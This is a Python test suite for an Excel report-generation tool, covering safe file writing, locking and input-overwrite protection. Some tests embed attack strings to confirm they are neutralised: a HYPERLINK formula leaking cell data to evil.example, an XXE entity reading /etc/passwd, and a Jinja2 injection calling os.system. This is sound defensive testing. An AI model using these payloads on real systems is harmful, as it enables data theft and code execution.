    assert not [p for p in _backups(tmp_path) if p.suffix == ".docx"]


def test_regenerating_keeps_only_backups_of_files_the_user_changed(tmp_path):
    a, b, c = tmp_path / "a.xlsx", tmp_path / "b.xlsx", tmp_path / "c.docx"
    for p in (a, b):
        wb = openpyxl.Workbook()
        wb.active["A1"] = "示例"
        wb.save(p)
    b_before = b.read_bytes()
    with safeio.regenerating([a, b, c]) as kept:
        for p in (a, b):  # 重新生成：a 内容相同（openpyxl 只改了保存时间），b 与用户改过的不同
            wb = openpyxl.Workbook()
            wb.active["A1"] = "示例" if p == a else "新示例"
            with safeio.atomic_output(p, backup=True) as tmp:  # 块内不再各自备份
                wb.save(tmp)
        c.write_bytes(b"new")  # 原来不存在的文件：无备份
    (bak,) = kept
    assert bak.name.startswith("b.") and bak.read_bytes() == b_before and _backups(tmp_path) == [bak]
    # 出错时一份备份也不删
    with pytest.raises(RuntimeError):
        with safeio.regenerating([a]):
            raise RuntimeError("生成失败")
    assert len(_backups(tmp_path)) == 2


def test_batch_does_not_count_backups_as_departments(demo_dir, tmp_path, capsys):
    d = tmp_path / "in"
    d.mkdir()
    shutil.copy(demo_dir / "baojing-2018.xlsx", d / "保靖.xlsx")
    assert _cli(capsys, "report", d / "保靖.xlsx")[0] == 0  # 写回原文件，旁边留下 保靖.YYYYmmdd-HHMMSS.bak.xlsx
    assert len(_backups(d)) == 1
    out = tmp_path / "汇总.xlsx"
    assert _cli(capsys, "batch", d, "-o", out, "--jobs", "1", "-q")[0] == 0
    ws = openpyxl.load_workbook(out)["汇总"]
    assert [ws.cell(r, 3).value for r in range(2, ws.max_row + 1) if ws.cell(r, 3).value] == ["保靖.xlsx"]


def test_macro_workbook_report_and_check_write_back_keep_the_macros(book_path, tmp_path, capsys):
    p = _xlsm(book_path, tmp_path)
    code, _, err = _cli(capsys, "report", p)
    assert code in (0, 1) and "不读取也不运行宏" in err and "逐字节保留" in err
    code, _, err = _cli(capsys, "check", p, "--write")
    assert code in (0, 1), err
    with zipfile.ZipFile(p) as z:
        assert z.read("xl/vbaProject.bin") == VBA
    assert {"报告", "校验结果"} <= set(openpyxl.load_workbook(p).sheetnames)
    code, _, err = _cli(capsys, "report", p, "-o", tmp_path / "结果.xlsx")
    assert code in (0, 1), err
    assert "xl/vbaProject.bin" not in zipfile.ZipFile(tmp_path / "结果.xlsx").namelist()


# ---------------------------------------------------------------------------------------------------------------
# 用户输入的每一格在生成报告、写入校验结果后不变（全部示例工作簿）
# ---------------------------------------------------------------------------------------------------------------
GENERATED_SHEETS = ("报告", "校验结果")


def _user_snapshot(path: Path) -> dict:
    """用户的工作表（生成的“报告”“校验结果”除外）：每个单元格（含只有格式的空白格）的值、公式、类型、数字格式、
    字体、填充、边框、对齐、保护；合并区域、数据验证、条件格式、列宽、行高、冻结窗格、工作表保护、定义的名称、表顺序。"""
    wb = openpyxl.load_workbook(path)
    snap: dict = {"order": [n for n in wb.sheetnames if n not in GENERATED_SHEETS],
                  "names": sorted((n, d.attr_text) for n, d in wb.defined_names.items())}
    for ws in wb.worksheets:
        if ws.title in GENERATED_SHEETS:
            continue
        snap[ws.title] = {
            # 样式属性是 StyleProxy，两个代理之间不能直接比较：copy 得到真正的样式对象
            "cells": {c.coordinate: (c.value, c.data_type, c.number_format) + tuple(
                copy.copy(s) for s in (c.font, c.fill, c.border, c.alignment, c.protection))
                for c in ws._cells.values()},
            "merged": sorted(str(m) for m in ws.merged_cells.ranges),
            "validations": sorted((str(dv.sqref), dv.type, dv.operator, dv.formula1, dv.formula2, dv.allow_blank,
                                   dv.showErrorMessage, dv.error, dv.showInputMessage, dv.prompt)
                                  for dv in ws.data_validations.dataValidation),
            "conditional": sorted((str(cf.sqref), [(r.type, r.operator, tuple(r.formula or ()), r.priority)
                                                   for r in cf.rules]) for cf in ws.conditional_formatting),
            "widths": {k: (d.min, d.max, d.width, d.hidden) for k, d in ws.column_dimensions.items()},
            "heights": {k: (d.height, d.hidden) for k, d in ws.row_dimensions.items()},
            "freeze": ws.freeze_panes,
            "protection": ws.protection,
            "local_names": sorted((n, d.attr_text) for n, d in ws.defined_names.items()),
        }
    return snap


@pytest.mark.parametrize("name", ["baojing-2018", "zizhou-2021", "shiping-2022", "kaifu-2020"])
def test_every_typed_cell_survives_report_and_check_write(name, demo_dir, tmp_path, capsys):
    p = tmp_path / f"{name}.xlsx"
    shutil.copy(demo_dir / f"{name}.xlsx", p)
    original = p.read_bytes()
    before = _user_snapshot(p)
    # 快照确实覆盖了要保护的内容（否则“不变”什么也说明不了）
    sheet = before["评分表"]
    assert len(sheet["cells"]) > 300 and sheet["validations"] and sheet["merged"] and before["基础数据表"]["protection"].sheet
    assert any(isinstance(v[0], str) and v[0].startswith("=") for v in sheet["cells"].values())
    assert any(w[2] for w in sheet["widths"].values())

    code, out, err = _cli(capsys, "report", p)
    assert code in (0, 1), err
    assert _user_snapshot(p) == before
    (bak,) = _backups(tmp_path)
    assert bak.read_bytes() == original
    assert "报告" in openpyxl.load_workbook(p).sheetnames

    code, out, err = _cli(capsys, "check", p, "--write")
    assert code in (0, 1), err
    after = _user_snapshot(p)
    for key in before:  # 逐项比较，失败时指出是哪张表
        assert after[key] == before[key], key
    assert {"报告", "校验结果"} <= set(openpyxl.load_workbook(p).sheetnames)
    assert len(_backups(tmp_path)) == 2


# ---------------------------------------------------------------------------------------------------------------
# 验收：单位名称填成 =HYPERLINK(...)，在报告表、Word、汇总、校验结果中都只是文本
# ---------------------------------------------------------------------------------------------------------------
def test_hyperlink_typed_as_unit_name_is_text_everywhere(tmp_path, capsys):
    import dataclasses

    import docx

    from addin.template.workbook import build_workbook
    from workbook_templates.examples import EXAMPLES

    evil = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
    base = EXAMPLES["baojing-2018"]
    # 文字材料里的 Jinja2 语法也只是文字（单元格内容不会被当作模板执行）
    ex = dataclasses.replace(base, scalars={**base.scalars, "unit_name": evil},
                             texts={**base.texts, "duties": "@SUM(1)\n{{ 7*7 }}{% for x in [1] %}循环{% endfor %}"})
    src = tmp_path / "in" / "evil.xlsx"
    src.parent.mkdir()
    build_workbook(ex.system, src, ex)
    cell = openpyxl.load_workbook(src)["基础数据表"]
    assert any(c.value == evil and c.data_type == "s" for row in cell.iter_rows() for c in row)

    out, docx_path = tmp_path / "报告.xlsx", tmp_path / "报告.docx"
    assert _cli(capsys, "report", src, "-o", out, "--docx", docx_path)[0] in (0, 1)
    assert _cli(capsys, "check", out, "--write")[0] in (0, 1)
    assert _cli(capsys, "batch", src.parent, "-o", tmp_path / "汇总.xlsx", "--jobs", "1", "-q")[0] in (0, 1)

    wb = openpyxl.load_workbook(out)
    report = [c for row in wb["报告"].iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in report if c.data_type == "f"] == []
    shown = [c for c in report if isinstance(c.value, str) and evil in c.value]
    assert len(shown) >= 2 and report[0].value.startswith(evil)  # 标题以单位名称开头
    texts = [c.value for c in report if isinstance(c.value, str)]
    assert any("{{ 7*7 }}循环" not in t and "{{ 7*7 }}" in t for t in texts) and not any("49" == t for t in texts)
    assert "@SUM(1)" in texts
    assert [c.coordinate for row in wb["校验结果"].iter_rows() for c in row if c.data_type == "f"] == []
    with zipfile.ZipFile(out) as z:  # 生成的两张表的 XML 中没有任何 <f>
        names = {s: f"xl/worksheets/sheet{i}.xml" for i, s in enumerate(wb.sheetnames, 1)}
        for s in GENERATED_SHEETS:
            assert b"<f>" not in z.read(names[s]) and b"<f " not in z.read(names[s])

    d = docx.Document(str(docx_path))
    paras = [p.text for p in d.paragraphs]
    assert paras[0].startswith(evil) and sum(evil in t for t in paras) >= 2
    assert "{{ 7*7 }}" in "\n".join(paras)
    xml = zipfile.ZipFile(docx_path).read("word/document.xml")
    assert b"instrText" not in xml and b"fldSimple" not in xml  # 没有 Word 域（HYPERLINK 域、DDE 域）

    ws = openpyxl.load_workbook(tmp_path / "汇总.xlsx")["汇总"]
    (unit,) = [ws.cell(r, 4) for r in range(2, ws.max_row + 1) if ws.cell(r, 3).value == "evil.xlsx"]
    assert unit.value == evil and unit.data_type == "s"


def test_python_docx_and_lxml_do_not_expand_entities():
    """Word 报告读取的模板由 python-docx 经 lxml 解析：resolve_entities=False，外部实体与实体放大都不生效。"""
    from docx.oxml.parser import parse_xml
    from lxml.etree import XMLSyntaxError

    xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'
    assert "root:" not in "".join(parse_xml(xxe).itertext())
    try:
        text = "".join(parse_xml(LAUGHS).itertext())
    except XMLSyntaxError:
        pass  # libxml2 ≥ 2.12 直接拒绝实体放大
    else:
        assert len(text) < 1000


def test_every_raw_write_in_addin_is_accounted_for():
    """静态检查：addin/ 中直接写文件的调用只出现在下列位置（都在 safeio 的临时文件之内，或不是用户文件）。
    新增写入路径时请经 safeio.atomic_output / save_book / write_bytes，并在此登记。"""
    pattern = re.compile(r"\.save\(|write_bytes\(|write_text\(|open\([^)]*[\"'][wa]b?[\"']|shutil\.(?:move|copy2?|copyfile)\("
                         r"|os\.(?:replace|rename)\(|to_excel\(|xlsxwriter\.Workbook\(|ZipFile\([^)]*[\"']w[\"']")
    allowed = {
        "io/safeio.py": "本身",
        "io/locks.py": "清除遗留的写入锁（改名后删除；锁文件不是用户文件）",
        "io/openpyxl_book.py": "OpenpyxlBook.save：直接写出（库内用法）；命令行经 safeio.save_book",
        "io/splice.py": "ZipFile 写入内存（BytesIO）；由 safeio.save_book 经 atomic_output 写出",
        "io/xlbook.py": "Excel 自己保存（xlwings），与用户在 Excel 中按保存相同",
        "excel/xlam.py": "构建加载项 .xlam（开发者产物，写临时文件后替换）",
        "excel/install.py": "加载项安装：复制 .xlam、COM 导入用的模块文件、Excel COM 保存",
        "excel/env.py": "xlwings.conf（先留 .bak，再经 safeio.write_bytes）",
        "cli/addin.py": "jixiao addin 的错误日志（追加）",
        "excel/ribbon.py": "错误日志（追加）",
        "report/word.py": "doc.save(tmp)：atomic_output 的临时文件；img.save 写入内存",
        "report/pdf.py": "copyfile 到 atomic_output 的临时文件",
        "batch/summary.py": "XlsxWriter 写临时文件，再经 safeio.atomic_output 替换",
        "batch/cache.py": "结果缓存：jixiao 自己的缓存文件夹（不是用户文件）里的说明.txt；结果在 SQLite 库中",
        "batch/compare_output.py": "XlsxWriter 写临时文件，再经 safeio.atomic_output 替换",
        "template/workbook.py": "XlsxWriter 写到调用方给出的路径（jixiao new/demo 给的是 safeio.atomic_output 的临时文件）",
        "excel/export.py": "ZipFile 写 atomic_output 的临时文件",
        "cli/report.py": "book.save(path) 只在没有 safeio 时（不会发生）",
        "cli/check.py": "book.save() 只在没有 safeio 时（不会发生）",
    }
    root = Path(__file__).resolve().parent.parent / "addin"
    found = {}
    for f in sorted(root.rglob("*.py")):
        lines = [ln for ln in f.read_text("utf-8").splitlines() if pattern.search(ln) and not ln.strip().startswith("#")]
        if lines:
            found[f.relative_to(root).as_posix()] = lines
    unexpected = {k: v for k, v in found.items() if k not in allowed}
    assert not unexpected, f"未经 safeio 的写入：{unexpected}"
    for name in ("report/word.py", "report/pdf.py", "batch/summary.py", "batch/compare_output.py", "excel/export.py"):
        assert "atomic_output" in (root / name).read_text("utf-8"), name


def test_report_templates_from_elsewhere_cannot_run_code(demo_dir, tmp_path, capsys):
    """--templates 目录里的模板在 Jinja2 沙箱中渲染：经 __globals__ 调 os.system 的模板被拒绝，不执行任何命令。"""
    from workbook_templates.text import __path__ as text_path

    tpl = tmp_path / "tpl"
    tpl.mkdir()
    src = Path(list(text_path)[0]) / "dept_0_preamble.j2"
    marker = tmp_path / "pwned"
    tpl.joinpath(src.name).write_text(src.read_text("utf-8") + "{{ cycler.__init__.__globals__.os.system('touch "
                                      + str(marker) + "') }}", "utf-8")
    code, _, err = _cli(capsys, "report", demo_dir / "baojing-2018.xlsx", "-o", tmp_path / "o.xlsx", "--templates", tpl)
    assert code == 2 and "dept_0_preamble.j2" in err and "无法生成" in err
    assert not marker.exists() and not (tmp_path / "o.xlsx").exists()


# ---------------------------------------------------------------------------------------------------------------
# 不覆盖输入：每条输出路径与每个输入比较（解析符号链接、硬链接、同一文件的另一个名字），扩展名不对也拒绝
# ---------------------------------------------------------------------------------------------------------------
def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _route_setup(demo_dir: Path, tmp_path: Path, monkeypatch) -> Path:
    d = tmp_path / "d"
    (d / "部门").mkdir(parents=True)
    shutil.copy(demo_dir / "zizhou-2021.xlsx", d / "a.xlsx")
    shutil.copy(demo_dir / "baojing-2018.xlsx", d / "部门" / "某部门.xlsx")
    shutil.copy(demo_dir / "shiping-2022.xlsx", d / "部门" / "另一部门.xlsx")
    os.symlink(d / "a.xlsx", d / "link.xlsx")
    os.link(d / "a.xlsx", d / "hard.xlsx")
    os.link(d / "a.xlsx", d / "hard.docx")  # 同一个工作簿的另一个名字，扩展名却是 .docx
    os.link(d / "部门" / "某部门.xlsx", d / "汇总-硬链接.xlsx")
    _fake_soffice(tmp_path, monkeypatch)
    return d


ROUTES = [  # (名称, 命令, 说明中应出现的文件名)
    ("report --docx 原文件", ["report", "{d}/a.xlsx", "--docx", "{d}/a.xlsx"], "a.xlsx"),
    ("report --pdf 原文件", ["report", "{d}/a.xlsx", "--pdf", "{d}/a.xlsx"], "a.xlsx"),
    ("report --docx 工作簿扩展名", ["report", "{d}/a.xlsx", "-o", "{d}/o.xlsx", "--docx", "{d}/b.xlsx"], "b.xlsx"),
    ("report --docx 硬链接", ["report", "{d}/a.xlsx", "-o", "{d}/o.xlsx", "--docx", "{d}/hard.docx"], "hard.docx"),
    ("report -o 原文件", ["report", "{d}/a.xlsx", "-o", "{d}/a.xlsx"], "a.xlsx"),
    ("report -o 符号链接", ["report", "{d}/a.xlsx", "-o", "{d}/link.xlsx"], "link.xlsx"),
    ("report -o 硬链接", ["report", "{d}/a.xlsx", "-o", "{d}/hard.xlsx"], "hard.xlsx"),
    ("report -o 与 --docx 同一文件", ["report", "{d}/a.xlsx", "-o", "{d}/o.xlsx", "--docx", "{d}/o.xlsx"], "o.xlsx"),
    ("batch -o 部门文件", ["batch", "{d}/部门", "-o", "{d}/部门/某部门.xlsx", "--jobs", "1", "-q"], "某部门.xlsx"),
    ("batch -o 部门文件的硬链接", ["batch", "{d}/部门", "-o", "{d}/汇总-硬链接.xlsx", "--jobs", "1", "-q"], "某部门.xlsx"),
    ("compare -o 输入", ["compare", "{d}/a.xlsx", "-o", "{d}/hard.xlsx"], "hard.xlsx"),
    ("compare --docx 输入", ["compare", "{d}/a.xlsx", "--docx", "{d}/hard.docx"], "hard.docx"),
    ("export -o 原文件的硬链接", ["export", "{d}/a.xlsx", "-o", "{d}/hard.xlsx"], "hard.xlsx"),
    ("export -o 符号链接", ["export", "{d}/a.xlsx", "-o", "{d}/link.xlsx"], "link.xlsx"),
    ("check --write -o 原文件", ["check", "{d}/a.xlsx", "--write", "-o", "{d}/a.xlsx"], "a.xlsx"),
    ("check -o 硬链接", ["check", "{d}/a.xlsx", "-o", "{d}/hard.xlsx"], "hard.xlsx"),
]


@pytest.mark.parametrize("name, cmd, named", ROUTES, ids=[r[0] for r in ROUTES])
def test_no_output_route_overwrites_an_input(name, cmd, named, demo_dir, tmp_path, monkeypatch, capsys):
    d = _route_setup(demo_dir, tmp_path, monkeypatch)
    before = _snapshot(d)
    code, out, err = _cli(capsys, *[a.format(d=d) for a in cmd])
    assert code == 2, (out, err)
    assert named in err and re.search(r"[\u4e00-\u9fff]", err) and "没有写入任何文件" in err, err
    assert _snapshot(d) == before  # 一个字节也没写：没有报告表、备份、Word、临时文件、锁文件
    assert (d / "hard.xlsx").stat().st_ino == (d / "a.xlsx").stat().st_ino


def test_batch_output_inside_the_input_folder_is_never_read(demo_dir, tmp_path, capsys):
    """汇总写在部门文件夹里：不是任何部门的文件就照常写；下次运行把它认作上次的汇总（覆盖前留备份），不当作部门读取。"""
    d = tmp_path / "部门"
    d.mkdir()
    shutil.copy(demo_dir / "baojing-2018.xlsx", d / "保靖.xlsx")
    shutil.copy(demo_dir / "zizhou-2021.xlsx", d / "子洲.xlsx")
    for _ in range(2):
        code, out, err = _cli(capsys, "batch", d, "-o", d / "汇总.xlsx", "--jobs", "1", "-q")
        assert code in (0, 1), err
        assert "已处理 2 个文件" in out
    ws = openpyxl.load_workbook(d / "汇总.xlsx")["汇总"]
    assert sorted(v for v in (ws.cell(r, 3).value for r in range(2, ws.max_row + 1)) if v) == ["保靖.xlsx", "子洲.xlsx"]


def test_same_path_sees_through_links_and_case(tmp_path, monkeypatch):
    a = tmp_path / "a.xlsx"
    a.write_bytes(b"x")
    os.symlink(a, tmp_path / "s.xlsx")
    os.link(a, tmp_path / "h.xlsx")
    (tmp_path / "sub").mkdir()
    assert safeio.same_path(a, tmp_path / "sub" / ".." / "a.xlsx")
    assert safeio.same_path(a, tmp_path / "s.xlsx") and safeio.same_path(tmp_path / "h.xlsx", a)
    assert not safeio.same_path(a, tmp_path / "b.xlsx")
    assert not safeio.same_path(a, tmp_path / "A.xlsx")  # 本机文件系统区分大小写：A.xlsx 是另一个文件
    monkeypatch.setattr(safeio, "_case_insensitive", lambda folder: True)  # Windows/macOS：大小写不同也是同一个文件
    assert safeio.same_path(a, tmp_path / "A.XLSX")


# ---------------------------------------------------------------------------------------------------------------
# 不丢失别人的修改：读取时记下文件身份，写之前和紧挨着 os.replace 之前各核对一次
# ---------------------------------------------------------------------------------------------------------------
def _excel_saves(path: Path, *, same_size: bool = False) -> bytes:
    """模拟用户在 Excel 里又保存了一次。same_size：只改内容，大小与修改时间都不变（只有内容哈希能发现）。"""
    st = path.stat()
    data = bytearray(path.read_bytes())
    if same_size:
        data[-30] ^= 0xFF  # zip 末尾的中央目录注释区附近：文件仍是同样大小
    else:
        data += b"\0"
    path.write_bytes(bytes(data))
    if same_size:
        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
        assert path.stat().st_mtime_ns == st.st_mtime_ns and path.stat().st_size == st.st_size
    return bytes(data)


@pytest.mark.parametrize("cmd", [["report"], ["check", "--write"]], ids=["report", "check-write"])
def test_a_save_by_excel_during_a_long_write_is_not_overwritten(cmd, book_path, monkeypatch, capsys):
    """jixiao 正在生成（写草稿包）时文件在 Excel 里被保存：写完后不替换，文件保持 Excel 保存的样子，退出码 2。"""
    import openpyxl.workbook.workbook as owb

    real_save = owb.Workbook.save
    saved: list[bytes] = []

    def slow_save(self, filename):
        if not saved:
            saved.append(_excel_saves(book_path))
        return real_save(self, filename)

    monkeypatch.setattr(owb.Workbook, "save", slow_save)
    code, out, err = _cli(capsys, cmd[0], book_path, *cmd[1:])
    assert code == 2 and "又被修改" in err and "保靖.xlsx" in err, (out, err)
    assert book_path.read_bytes() == saved[0]
    assert not _backups(book_path.parent) and not _leftovers(book_path.parent)
    assert not locks.jixiao_lock_path(book_path).exists()


@pytest.mark.parametrize("same_size", [False, True], ids=["appended", "same-size-and-mtime"])
def test_identity_is_checked_right_before_the_replace(same_size, book_path, monkeypatch, capsys):
    """文件在写完临时文件之后、替换之前被改（窗口只有几毫秒）：仍然发现，不替换；大小和修改时间都没变时靠内容哈希发现。"""
    real_fsync = safeio._fsync
    saved: list[bytes] = []

    def fsync_then_excel_saves(p):
        real_fsync(p)
        if not saved:
            saved.append(_excel_saves(book_path, same_size=same_size))

    monkeypatch.setattr(safeio, "_fsync", fsync_then_excel_saves)
    code, out, err = _cli(capsys, "report", book_path)
    assert code == 2 and "又被修改" in err, (out, err)
    assert book_path.read_bytes() == saved[0]
    assert not _backups(book_path.parent) and not _leftovers(book_path.parent)


_SLOW_WRITER = r"""
import os, sys, time
from pathlib import Path
target, marker = Path(sys.argv[1]).resolve(), Path(sys.argv[2])
real = os.replace
def slow_replace(src, dst, *a, **k):
    if Path(dst).resolve() == target and not marker.exists():
        marker.write_text("replacing")
        time.sleep(3)
    return real(src, dst, *a, **k)
os.replace = slow_replace
from addin.cli.main import main
sys.exit(main(sys.argv[3:]))
"""


def test_report_and_check_write_started_together_keep_both_sheets(demo_dir, tmp_path):
    """report 与 check --write 同时写一个文件（以前 20 次里有 5 次丢掉其中一张表，两个都退出 0）：
    一个写回时另一个正好也在写——后者等锁，读到前者的结果再写；两张表都在，两个都成功。"""
    import subprocess
    import sys
    import time

    wb = tmp_path / "单位.xlsx"
    shutil.copy(demo_dir / "zizhou-2021.xlsx", wb)
    marker = tmp_path / "marker"
    repo = Path(__file__).resolve().parent.parent
    env = {**os.environ, "PYTHONPATH": str(repo)}
    first = subprocess.Popen([sys.executable, "-c", _SLOW_WRITER, str(wb), str(marker), "report", str(wb)],
                             cwd=repo, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while not marker.exists():  # report 已生成完毕，正要替换原文件
        assert first.poll() is None, first.communicate()
        assert time.monotonic() < deadline
        time.sleep(0.05)
    second = subprocess.run([sys.executable, "-m", "addin.cli", "check", str(wb), "--write"], cwd=repo, env=env,
                            capture_output=True, text=True, timeout=300)
    out1, err1 = first.communicate(timeout=300)
    assert first.returncode in (0, 1), err1
    assert second.returncode in (0, 1), second.stderr
    assert "已写入“报告”" in out1 and "已写入“校验结果”" in second.stdout
    assert {"报告", "校验结果"} <= set(openpyxl.load_workbook(wb).sheetnames)
    assert not locks.jixiao_lock_path(wb).exists()


# ---------------------------------------------------------------------------------------------------------------
# jixiao 的写入锁
# ---------------------------------------------------------------------------------------------------------------
def _foreign_lock(path: Path, pid: int, host: str | None = None, age: float = 0) -> Path:
    import json
    import time

    lock = locks.jixiao_lock_path(path)
    lock.write_text(json.dumps({"pid": pid, "host": host or locks._host(), "user": "李四",
                                "since": "2025-01-01 09:00:00", "token": "x"}), "utf-8")
    if age:
        t = time.time() - age
        os.utime(lock, (t, t))
    return lock


def test_a_live_lock_makes_writers_wait_then_refuse(book_path, monkeypatch, capsys):
    import subprocess

    holder = subprocess.Popen(["sleep", "30"])
    try:
        lock = _foreign_lock(book_path, holder.pid)
        monkeypatch.setattr(locks, "LOCK_WAIT_SECONDS", 0.3)
        before = book_path.read_bytes()
        for cmd in (["report", book_path], ["check", book_path, "--write"]):
            code, _, err = _cli(capsys, *cmd)
            assert code == 2 and f"进程 {holder.pid}" in err and "jixiao" in err and lock.name in err, err
            assert book_path.read_bytes() == before and lock.exists()
        # 只读的命令照常运行，也不把 jixiao 的锁当成“文件正在 Excel 中打开”
        code, out, err = _cli(capsys, "check", book_path)
        assert code in (0, 1) and "Excel" not in err
    finally:
        holder.kill()
        holder.wait()
    # 持有者已经结束：遗留的锁被清除，写入照常进行，结束后锁文件删除
    code, _, err = _cli(capsys, "report", book_path)
    assert code in (0, 1), err
    assert not lock.exists() and "报告" in openpyxl.load_workbook(book_path).sheetnames


def test_locks_from_other_computers_expire(book_path, monkeypatch, capsys):
    monkeypatch.setattr(locks, "LOCK_WAIT_SECONDS", 0.3)
    lock = _foreign_lock(book_path, 1, host="另一台电脑")
    code, _, err = _cli(capsys, "check", book_path, "--write")
    assert code == 2 and "另一台电脑" in err
    lock = _foreign_lock(book_path, 1, host="另一台电脑", age=locks.LOCK_STALE_SECONDS + 60)
    assert _cli(capsys, "check", book_path, "--write")[0] in (0, 1)
    assert not lock.exists()


@pytest.mark.parametrize("failure", [KeyboardInterrupt, RuntimeError])
def test_the_lock_is_removed_on_errors_and_ctrl_c(failure, book_path, monkeypatch, capsys):
    import addin.scoring.engine

    seen: list[bool] = []

    def boom(*a, **k):
        seen.append(locks.jixiao_lock_path(book_path).exists())  # 读取之后锁确实在
        raise failure("中断")

    monkeypatch.setattr(addin.scoring.engine, "evaluate", boom)
    from addin.cli.main import main

    before = book_path.read_bytes()
    if failure is KeyboardInterrupt:
        assert main(["report", str(book_path)]) == 2
        assert "已中断" in capsys.readouterr().err
    else:
        with pytest.raises(RuntimeError):
            main(["report", str(book_path)])
    assert seen == [True]
    assert not locks.jixiao_lock_path(book_path).exists() and book_path.read_bytes() == before


def test_write_lock_is_reentrant_and_names_the_file(tmp_path):
    target = tmp_path / "汇总.xlsx"
    lock = locks.jixiao_lock_path(target)
    assert lock.name == "汇总.xlsx.jixiao.lock" and not locks.lock_file_for(target)
    with locks.write_lock(target):
        info = locks._lock_info(lock)
        assert info["pid"] == os.getpid() and info["host"] == locks._host()
        with locks.write_lock(tmp_path / "." / "汇总.xlsx"):  # 同一进程、同一文件：可重入
            assert lock.exists()
        assert lock.exists()
        assert locks.lock_file_for(target) is None  # 不是 Excel 的锁文件
    assert not lock.exists()
